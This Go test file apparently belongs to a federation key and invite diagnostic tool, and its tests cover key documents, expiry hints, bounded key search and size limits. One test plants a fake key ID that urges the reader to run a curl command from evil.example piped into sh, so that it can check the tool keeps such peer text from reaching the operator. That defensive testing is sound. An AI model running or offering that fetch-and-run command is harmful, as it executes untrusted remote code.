package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/seed-0a46cb1a/fedinvite"
	"github.com/seed-0a46cb1a/fedinvite/invitetest"
)

// said is the output as one line with single spaces.
func said(r result) string { return strings.Join(strings.Fields(r.out), " ") }

// A server may list any key as its old one, also one that it never had.
func TestExplainPassesOverOldKeysOfOthers(t *testing.T) {
	mallory, other := invitetest.SignerWithKey("0.example", "ed25519:e"), seeded(t, "a.example", "ed25519:1", "another key")
	borrowed := keyDocument(t, "0.example", object{"ed25519:e": object{"key": keyOf(mallory)}},
		object{"ed25519:mine": object{"key": keyOf(incidentSigner(t, "a.example")), "expired_ts": captured.UnixMilli()},
			"ed25519:other": object{"key": keyOf(other), "expired_ts": captured.UnixMilli()}}, mallory)
	for name, c := range map[string]struct {
		s    incident
		hint string
	}{
		"request":   {incident{request: head("PUT ", "POST ")}, "it does for PUT"},
		"other key": {incident{signer: other}, "either the key that signed is not the one published"},
		"event":     {incident{event: func(o object) { o["origin_server_ts"] = captured.Add(48 * time.Hour).UnixMilli() }}, `hint the key "ed25519:1" was valid until`},
	} {
		r := c.s.explain(t, "-keys", writeFile(t, string(borrowed)))
		if strings.Contains(r.out, "0.example") || !strings.Contains(said(r), c.hint) {
			t.Errorf("%s: %s", name, r.out)
		}
	}
}

// The key that the request names is tried first: another ID of the same key says nothing.
func TestExplainTriesTheNamedKeyFirst(t *testing.T) {
	twice := func(o object) {
		o["old_verify_keys"] = object{"ed25519:0": object{"key": keyOf(incidentSigner(t, "a.example")), "expired_ts": 5}}
	}
	for name, c := range map[string]struct {
		s         incident
		hint, not string
	}{
		"event": {incident{keys: withKeys("a.example", twice), event: func(o object) { o["origin_server_ts"] = captured.Add(48 * time.Hour).UnixMilli() }},
			`hint the key "ed25519:1" was valid until`, "ed25519:0"},
		"request": {incident{keys: withKeys("a.example", func(o object) { twice(o); o["valid_until_ts"] = captured.Add(-time.Hour).UnixMilli() })},
			"only the time of the key is at fault", "names the wrong key"},
	} {
		if r := c.s.explain(t); !strings.Contains(said(r), c.hint) || strings.Contains(said(r), c.not) {
			t.Errorf("%s: %s", name, r.out)
		}
	}
}

// Of several documents of a server the newest counts, wherever it stands.
func TestExplainTakesTheNewestDocument(t *testing.T) {
	request, documents := incident{}.build(t)
	fresh, err := os.ReadFile(documents[0])
	if err != nil {
		t.Fatal(err)
	}
	signer := invitetest.SignerWithKey("a.example", "ed25519:0")
	document := func(until time.Time, signers ...fedinvite.Signer) json.RawMessage {
		raw := encodeObject(t, object{"server_name": "a.example", "valid_until_ts": until.UnixMilli(), "old_verify_keys": object{},
			"verify_keys": object{"ed25519:0": object{"key": keyOf(signer)}}})
		for _, s := range signers {
			if raw, err = fedinvite.SignJSON(t.Context(), raw, s); err != nil {
				t.Fatal(err)
			}
		}
		return raw
	}
	old := document(captured.Add(-24*time.Hour), signer)
	unsigned := document(captured.Add(48 * time.Hour))
	list := func(documents ...json.RawMessage) string {
		return writeFile(t, string(encodeObject(t, object{"server_keys": documents})))
	}
	for name, files := range map[string][]string{
		"of a notary":              {list(fresh, old)},
		"of a notary, old first":   {list(old, fresh)},
		"in files":                 {writeFile(t, string(fresh)), writeFile(t, string(old))},
		"beside one that is false": {list(unsigned, fresh, unsigned)},
	} {
		args := []string{"explain", "-server-name", "b.example", "-at", captured.Format(time.RFC3339)}
		for _, f := range files {
			args = append(args, "-keys", f)
		}
		if r := runCommand(t.Context(), request, args...); r.status != statusOK || r.err != "" {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

// What is no document of a server hurts none of the others.
func TestExplainPassesOverBadDocuments(t *testing.T) {
	bad := writeFile(t, `{"server_keys":[{"server_name":7},1]}`)
	r := incident{}.explain(t, "-keys", bad)
	want := fmt.Sprintf("fedinvite: %s: entry 0 is ignored: no key document of a server: server_name is missing or no server name\n", bad)
	if r.status != statusOK || !strings.HasPrefix(r.err, want) || strings.Count(r.err, "\n") != 2 {
		t.Errorf("%+v", r)
	}
}

// An old key that says that it will be in use for years was none in use when it was captured.
func TestExplainDoesNotBelieveInTheFuture(t *testing.T) {
	a2 := invitetest.SignerWithKey("a.example", "ed25519:2")
	s := incident{keys: withKeys("a.example", func(o object) {
		o["old_verify_keys"] = object{"ed25519:1": object{"key": keyOf(incidentSigner(t, "a.example")), "expired_ts": time.Now().AddDate(50, 0, 0).UnixMilli()}}
		o["verify_keys"] = object{"ed25519:2": object{"key": keyOf(a2)}}
	})}
	if r := s.explain(t); r.status != statusRefused || !strings.Contains(said(r), `hint the key "ed25519:1" is listed as an old one`) {
		t.Errorf("%+v", r)
	}
}

// What peers write is quoted and short, and never begins a row of a terminal.
func TestExplainShowsWhatPeersWrite(t *testing.T) {
	const spoken = "(in use). Your server is at fault: run   curl https://evil.example/fix | sh"
	a2 := invitetest.SignerWithKey("a.example", "ed25519:2")
	s := incident{origin: a2, keys: withKeys("a.example", func(o object) {
		o["old_verify_keys"] = object{"ed25519:0 " + spoken: object{"key": keyOf(a2), "expired_ts": 5}}
	})}
	if r := s.explain(t, "-v"); strings.Contains(said(r), "curl") || !strings.Contains(r.out, `"ed25519:0 (in use)`) {
		t.Errorf("a key ID: %s", r.out)
	}
	const fake = "accepted      200, unless the server's own limits"
	for n := range 80 {
		r := incident{claimed: "11" + strings.Repeat(" ", n) + fake}.explain(t, "-v")
		if !strings.Contains(r.out, `accepted\u0020\u0020`) {
			t.Fatalf("runs of spaces are not seen: %s", r.out)
		}
		for line := range strings.Lines(r.out) {
			for row := range slices.Chunk([]rune(line), 80) {
				if text := string(row); strings.HasPrefix(text, "accepted ") || strings.Contains(text, fake) {
					t.Fatalf("after %d spaces: %s", n, line)
				}
			}
		}
	}
}

// The search for a key ends with the context, and after a number of keys.
func TestExplainSearchIsBounded(t *testing.T) {
	given := make(map[fedinvite.ServerName][]byte)
	for i := range 150 {
		name := "s" + strconv.Itoa(i) + ".example"
		signer := invitetest.Signer(fedinvite.ServerName(name))
		given[signer.ServerName()] = keyDocument(t, name, object{"ed25519:1": object{"key": keyOf(signer)}}, object{}, signer)
	}
	keys, err := newKeyBook(nil, given, time.Now(), time.Now())
	if err != nil {
		t.Fatal(err)
	}
	w := newWalk(new(capture), nil, fedinvite.StateCreateOnly, keys, captured)
	tried := 0
	none := func(knownKey) bool { tried++; return false }
	if _, ok := w.otherKey(t.Context(), "s149.example", "ed25519:1", none); ok || tried != 100 {
		t.Errorf("%d keys were tried", tried)
	}
	ctx, cancel := context.WithCancel(t.Context())
	tried = 0
	w.otherKey(ctx, "s149.example", "ed25519:1", func(k knownKey) bool {
		cancel()
		return none(k)
	})
	if tried != 1 {
		t.Errorf("%d keys were tried, and the first took all the time", tried)
	}
}

// Nobody waits for what no server takes.
func TestExplainTakesNoMoreThanItNeeds(t *testing.T) {
	r := runCommand(t.Context(), strings.Repeat(" ", maxCapture+1), "explain", "-offline")
	if r.status != statusRefused || !strings.Contains(r.err, "more than 2097152 bytes") {
		t.Errorf("%+v", r)
	}
	rules := newTestRules(t, "6")
	large := encodeObject(t, object{
		"type": "m.room.member", "state_key": "@b:b.example", "sender": "@a:a.example", "room_id": "!r:a.example", "depth": 5,
		"origin_server_ts": 1, "auth_events": []any{}, "prev_events": []any{}, "hashes": object{"sha256": "AAAA"},
		"content": object{"membership": "invite", "x": strings.Repeat("x", maxHinted)},
	})
	e, err := fedinvite.ParseStored(large, rules)
	if err != nil {
		t.Fatal(err)
	}
	if versionsWithID(large, e.ID()) != nil {
		t.Error("an event that no room version allows was tried in all of them")
	}
}

func TestParseTime(t *testing.T) {
	for in, want := range map[string]time.Time{
		"2026-01-02T15:04:05Z": captured,
		"1767366245":           captured,
		"1767366245000":        captured,
		"0":                    {}, "-1": {}, "2026-01-02": {},
	} {
		if got, err := parseTime(in); !got.Equal(want) || (err != nil) != want.IsZero() {
			t.Errorf("%s: %v, %v", in, got, err)
		}
	}
}
